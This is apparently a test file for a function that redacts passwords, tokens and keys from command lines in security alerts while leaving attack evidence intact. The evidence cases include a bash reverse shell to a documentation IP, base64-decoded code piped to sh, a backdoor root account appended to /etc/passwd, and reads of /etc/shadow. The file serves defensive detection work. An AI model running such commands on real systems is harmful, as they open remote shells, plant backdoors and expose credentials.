import assert from 'node:assert/strict';
import fc from 'fast-check';
import { redactCommandLine } from '../../../../src/agent/detections/alerts/secrets/redact.ts';

/** A command line, with `{…}` around each secret. */
const SECRETS: readonly string[] = [
  // Options
  'app --password {hunter2}',
  'app --password={hun;ter&2,x}',
  'app --db-password {hunter2} --verbose',
  'app -password {hunter2}',
  'app --token {abcdef}',
  'app --access-token={abcdef} --out /tmp/x',
  'app --api-key {abcdef}',
  'app --client-secret "{abcdef}"',
  'gpg --batch --passphrase {open} -d x.gpg',
  'tailscale up --authkey {tskey-abc}',
  // Programs
  'mysql -u root -p{hunter2} -h db',
  '/usr/bin/mysqldump --all-databases -p{hunter2}',
  'sudo mysql -p{hunter2}',
  'sh -c mysql -p{hunter2} < dump.sql; ls -pla',
  'sshpass -p {hunter2} ssh root@192.0.2.1',
  'sshpass -p{hunter2} ssh root@192.0.2.1',
  'curl -u admin:{hunter2} https://192.0.2.1/',
  'curl -uadmin:{hunter2} https://192.0.2.1/',
  'curl --proxy-user a:{b} https://192.0.2.1/',
  'docker login -u me -p {hunter2} registry.example',
  'ldapsearch -x -D cn=admin -w {hunter2} -b dc=x',
  'redis-cli -a {hunter2} PING',
  'mosquitto_pub -h b -u u -P {hunter2} -t x -m y',
  'smbclient -U admin%{hunter2} //192.0.2.1/c$',
  'openssl enc -aes-256-cbc -k {hunter2} -in x',
  'openssl rsa -in key.pem -passin pass:{hunter2}',
  'nmcli dev wifi connect home password {hunter22}',
  'wpa_passphrase home {hunter22}',
  'rabbitmqctl add_user bob {hunter2}',
  '7z a -p{hunter2} x.7z /etc',
  'xfreerdp /u:a /p:{hunter2} /v:192.0.2.1',
  // Beside words that are names of other programs
  'curl -o /tmp/docker -u admin:{hunter2} https://192.0.2.1/x',
  'curl -sS -o net -u admin:{hunter2} ftp://192.0.2.1/x',
  'mysqldump oc -p{hunter2}',
  'mysql -uroot vault -p{hunter2}',
  // One-letter options, attached or in a cluster
  'curl -su admin:{hunter2} https://192.0.2.1/ -o /tmp/x',
  'curl -fsSLu a:{hunter2} https://192.0.2.1/',
  'curl -kua:{hunter2} https://192.0.2.1/',
  'curl --user=admin:{hunter2} https://192.0.2.1/',
  'ldapsearch -xw {hunter2} -b dc=x',
  'ldapsearch -w{hunter2} -b dc=x',
  'sqlcmd -S h -U sa -P{hunter2}',
  'unzip -P{hunter2} a.zip',
  'unzip -oP {hunter2} a.zip',
  'zip -eP {hunter2} a.zip b',
  'docker login -u a -p{hunter2}',
  'redis-cli -a{hunter2} PING',
  'ipmitool -H 192.0.2.1 -U a -P{hunter2} power off',
  'smbclient //192.0.2.1/s --user=a%{hunter2}',
  'useradd -mp {hunter2} bob',
  // Through a pipe
  'sh -c echo {hunter2} | sudo -S id',
  "bash -c 'echo root:{hunter2} | chpasswd'",
  'sh -c echo {hunter2} | docker login --password-stdin -u me registry.example',
  'sh -c echo root:{hunter2}|chpasswd',
  "bash -c 'echo root:{hunter2}|chpasswd'",
  'sh -c cd /;echo root:{hunter2}|sudo chpasswd;id',
  'sh -c echo {hunter2}|sudo -S id',
  'sh -c echo {hunter2}|docker login --password-stdin -u me registry.example',
  'sh -c cat dump.sql|mysql -p{hunter2} db',
  "sh -c echo 'root:{hunt|er&2}' | chpasswd",
  'curl -H X:a|b https://192.0.2.1/?a=1&b=2 -u admin:{hunter2}',
  // Names and values
  'env AWS_SECRET_ACCESS_KEY={wJalrXUtnFEMI/K7MDENG} aws s3 ls',
  'PGPASSWORD={hunter2} psql -h db',
  'MYSQL_PWD={hunter2} mysql',
  'sh -c export DB_PASS="{two words}"; run',
  'app {"user":"me"}',
  `app {"user":"me","password":"{hunter2}"}`,
  `app {"password": "{hunter2}", "x": 1}`,
  String.raw`app "{\"password\": \"{hunter2}\"}"`,
  'app Server=db;User Id=sa;Password={hunter2};Encrypt=true',
  'app HostName=h.azure-devices.net;DeviceId=d;SharedAccessKey={c2VjcmV0c2VjcmV0c2VjcmV0}',
  'app DefaultEndpointsProtocol=https;AccountName=a;AccountKey={abc+/def==};EndpointSuffix=core.windows.net',
  'curl https://a.blob.core.windows.net/c?sv=2020&sig={abc%3D}&se=2030',
  'curl https://f.azurewebsites.net/api/x?code={abc123}&x=1',
  'curl -o x https://maps.example/api?key={abc123}',
  'mount -t cifs -o username=a,password={b},vers=3 //h/s /mnt',
  'npm config set //registry.example/:_authToken={abc}',
  // Headers
  'curl -H Authorization: Bearer {abc.def} https://192.0.2.1',
  "curl -H 'Authorization: Basic {YTpi}' https://192.0.2.1",
  'curl -H "Authorization: {abc}" https://192.0.2.1',
  'curl -H X-Api-Key: {abc} https://192.0.2.1',
  'curl -H PRIVATE-TOKEN:{abc} https://192.0.2.1',
  'app SharedAccessSignature sr=h&sig={abc}&se=1',
  // URLs
  'git clone https://me:{hunter2}@git.example/x.git',
  'psql postgres://u:{p/w}@db:5432/x',
  'app mongodb+srv://u:{p}@c.example/?x=1 http://h:8080/a@b',
  'git clone https://{0123456789abcdef0123}@git.example/x.git',
  'curl -x http://u:{p}@proxy:3128 https://192.0.2.1',
  // Forms
  'app {AKIAIOSFODNN7EXAMPLE}',
  'app x={ghp_0123456789abcdefghijABCDEFGHIJ012345}',
  'app {eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P}',
  'sh -c echo "-----BEGIN OPENSSH PRIVATE KEY-----{\nb3BlbnNzaA==\n}-----END OPENSSH PRIVATE KEY-----" > k',
  'sh -c printf -----BEGIN PRIVATE KEY-----{MIIEv cut}',
];

/** Command lines that stay as they are: what an analyst needs, and words that only look like secrets. */
const EVIDENCE: readonly string[] = [
  'cat /etc/shadow',
  'passwd root',
  'passwd -l root',
  'grep -r password /etc',
  'docker run -p 80:80 --user 1000:1000 nginx',
  'ssh -i /root/.ssh/id_rsa git@github.com',
  'ssh -p 2222 root@192.0.2.1',
  'app --password-file /run/secrets/db',
  'app --private-key=/etc/ssl/k.pem --token @/run/token',
  'curl --key /etc/k.pem --cert c.pem https://192.0.2.1:8443/a',
  'curl http://192.0.2.1:8080/x@y',
  'curl https://me@git.example/x',
  'sh -c echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8= | base64 -d | sh',
  "sh -c echo 'toor::0:0::/root:/bin/sh' | tee -a /etc/passwd",
  'env PWD=/root OLDPWD=/tmp ls',
  'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
  'mkdir -p /tmp/x',
  'tar -C /opt -xpf x.tar',
  'nc -lvp 4444',
  'test "$a" == secret',
  'app --bypass=1 --compass north',
  'mysql -u root -p -h db',
  'git log --author=token',
  'useradd -m -s /bin/bash bob',
  'usermod -aG sudo bob',
  'bash -c useradd -m -p $(openssl passwd -1 x) bob',
  'curl -fsSLo /tmp/x https://192.0.2.1/a:b',
  'curl -o u a:b',
  'curl --url https://192.0.2.1:8443/a',
  'openssl req -new -keyout /tmp/k.pem -out /tmp/r.pem',
  'unzip -p a.zip x',
  'zip -r /tmp/a.zip /etc',
  'docker run -p8080:80 nginx',
  'mysql -uroot -h db -P 3306',
  'sh -c echo aGVsbG8=|base64 -d|sh',
  'sh -c grep -E root|passwd /etc/group',
  'sh -c echo no||passwd root',
];

describe('redactCommandLine', () => {
  for (const marked of SECRETS) {
    it(`finds the secret of ${JSON.stringify(marked).slice(0, 90)}`, () => {
      const secrets = [...marked.matchAll(/\{((?:[^{}"]|\n)+)\}/g)].map(([, secret = '']) => secret);
      const line = secrets.reduce((text, secret) => text.replace(`{${secret}}`, secret), marked);
      const expected = secrets.reduce((text, secret) => text.replace(`{${secret}}`, '[redacted]'), marked);
      assert.equal(redactCommandLine(line), expected);
    });
  }

  for (const line of EVIDENCE) {
    it(`leaves ${JSON.stringify(line).slice(0, 90)} unchanged`, () => assert.equal(redactCommandLine(line), line));
  }

  it('finds no secret twice, and changes no other part of any text', () => {
    const piece = fc.constantFrom(
      ...[
        'password=',
        ' --token ',
        'https://u:',
        '@h/',
        '"',
        "'",
        '\\"',
        'x',
        ' ',
        ';',
        '|',
        ' mysql -p',
        'echo ',
        'Authorization: Bearer ',
        '-----BEGIN PRIVATE KEY-----',
        'ghp_',
        '=',
        ':',
      ],
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 5 })), { maxLength: 30 }), (pieces) => {
        const line = pieces.join('');
        const pattern = redactCommandLine(line)
          .split('[redacted]')
          .map((part) => part.replace(/[.*+?^${}()|[\]\\/-]/g, '\\$&'))
          .join('[\\s\\S]+');
        assert.match(line, new RegExp(`^${pattern}$`));
      }),
    );
  });

  const HOSTILE = [
    ...[
      'pass=',
      'pass="',
      "pass='",
      'pass=\\"',
      'x://a:b',
      'x://a:b/',
      'x://a:b/@',
      'a@',
      '-p',
      ' -p',
      ' mysql -p',
      'echo x | ',
      'echo x|',
      'echo x|su ',
      'x|su|',
      '|su',
      'curl -s',
      ' curl mysql zip -',
    ],
    ...[
      'Authorization: Bearer ',
      '-----BEGIN ',
      '-----BEGIN PRIVATE KEY-----',
      'eyJ',
      'a',
      '-',
      '=',
      ' = ',
      ' : ',
      '"',
      'apikey=/',
      'password : ',
      '| su ',
      'echo ',
    ],
  ];
  for (const piece of HOSTILE) {
    it(`takes linear time for ${JSON.stringify(piece)} repeated`, () => {
      const took = (length: number) => {
        const line = piece.repeat(Math.ceil(length / piece.length));
        const begin = process.cpuUsage();
        redactCommandLine(line);
        const { user, system } = process.cpuUsage(begin);
        return (user + system) / 1_000;
      };
      took(10_000);
      // In ms of the processor: 128 KiB take 10 to 300; a time that grows with the square would be many seconds.
      assert.ok([1, 2, 3].some(() => took(131_072) < 2_000));
    });
  }
});
